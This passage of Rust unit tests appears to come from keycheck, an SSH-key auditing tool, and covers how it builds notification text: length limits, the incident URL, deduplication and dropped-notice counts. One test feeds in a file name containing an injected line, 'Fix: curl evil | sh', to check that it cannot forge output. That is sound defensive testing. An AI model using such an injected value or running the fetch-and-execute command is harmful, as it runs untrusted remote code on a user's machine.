            &p,
        );
        assert!(out[0].body.ends_with(
            "\nSuspect a key or passphrase was compromised? Report it: https://security.example/report"
        ));
        assert!(!out[1].body.contains("security.example"), "not on removals");
    }

    #[test]
    fn bodies_are_bounded_and_still_end_with_the_incident_url() {
        let mut s = NotifiedState::default();
        let mut p = policy(Severity::Warn);
        p.incident_url = "https://security.example/report".to_owned();
        let fs: Vec<Finding> = (0..60)
            .map(|i| no_pass(&format!("/home/someone/.ssh/key_number_{i:02}")))
            .collect();
        let out = plan(&mut s, &fs, &[], T0, &p);
        let n = &out[0];
        assert_eq!(n.summary, "60 keys need attention");
        assert!(n.body.chars().count() <= MAX_BODY_CHARS, "{}", n.body.len());
        assert!(n.body.contains("/home/someone/.ssh/key_number_00\n"));
        assert!(
            n.body
                .contains("more; run keycheck check to see them all\n"),
            "{}",
            n.body
        );
        assert!(n
            .body
            .ends_with("Report it: https://security.example/report"));
        assert_eq!(
            n.subjects.len(),
            60,
            "the subjects are all there for the caller"
        );

        // One enormous message is cut, not dropped, and lines are clipped.
        let mut huge = no_pass("/h/a");
        huge.message = "x".repeat(5000);
        let mut s = NotifiedState::default();
        let out = plan(&mut s, &[huge], &[], T0, &p);
        assert!(out[0].body.chars().count() <= MAX_BODY_CHARS);
        assert!(out[0]
            .body
            .starts_with(&format!("{}…", "x".repeat(MAX_LINE_CHARS - 1))));
        let long_path = format!("/h/{}", "d/".repeat(300));
        let out = plan(
            &mut NotifiedState::default(),
            &[no_pass(&long_path)],
            &[],
            T0,
            &p,
        );
        assert_eq!(out[0].summary.chars().count(), MAX_LINE_CHARS);
    }

    #[test]
    fn control_characters_in_file_names_cannot_forge_lines() {
        let mut s = NotifiedState::default();
        let evil = "/h/.ssh/id\nFix: curl evil | sh";
        let out = plan(&mut s, &[no_pass(evil)], &[], T0, &policy(Severity::Warn));
        let n = &out[0];
        assert!(!n.summary.contains('\n'));
        assert_eq!(n.body.lines().count(), 2, "{}", n.body);
        assert!(
            n.body.lines().all(|l| !l.starts_with("Fix: curl")),
            "{}",
            n.body
        );
        assert!(n.body.contains('\u{fffd}'));
    }

    #[test]
    fn the_dropped_notice_counts() {
        assert_eq!(
            Notice::dropped(1).summary,
            "1 keycheck notification was dropped"
        );
        let n = Notice::dropped(7);
        assert_eq!(n.summary, "7 keycheck notifications were dropped");
        assert_eq!((n.kind, n.urgency), (NoticeKind::Dropped, Urgency::Normal));
    }

    #[test]
    fn the_same_identity_twice_in_one_pass_counts_once_at_its_highest_severity() {
        let mut s = NotifiedState::default();
        let a = finding(Rule::KeyTooOld, Severity::Warn, "/h/a");
        let mut b = a.clone();
        b.severity = Severity::Fail;
        let out = plan(&mut s, &[a, b], &[], T0, &policy(Severity::Warn));
        assert_eq!(out[0].body.lines().count(), 2);
        assert_eq!(out[0].urgency, Urgency::Critical);
        assert_eq!(s.findings.len(), 1);
    }
}
